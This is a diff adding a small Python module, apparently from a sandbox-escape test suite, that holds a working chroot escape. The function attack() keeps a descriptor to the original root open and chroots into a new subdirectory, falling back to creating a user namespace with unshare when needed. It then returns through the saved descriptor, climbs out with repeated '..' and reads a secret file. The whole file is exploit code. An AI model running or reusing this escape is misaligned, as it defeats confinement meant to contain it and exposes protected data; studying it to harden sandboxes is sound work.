@@ -1,0 +1,19 @@
+"""Leaves a root by the oldest way: a second root below, with a folder of the first one kept open."""
+
+import ctypes
+import os
+
+
+def attack(told: dict[str, str]) -> None:
+    os.mkdir("second")
+    first = os.open("/", os.O_RDONLY)
+    try:
+        os.chroot("second")
+    except OSError:
+        ctypes.CDLL(None).unshare(0x10000000)
+        os.chroot("second")
+    os.fchdir(first)
+    for _ in range(40):
+        os.chdir("..")
+    os.chroot(".")
+    print(open(told["secret_file"]).read())
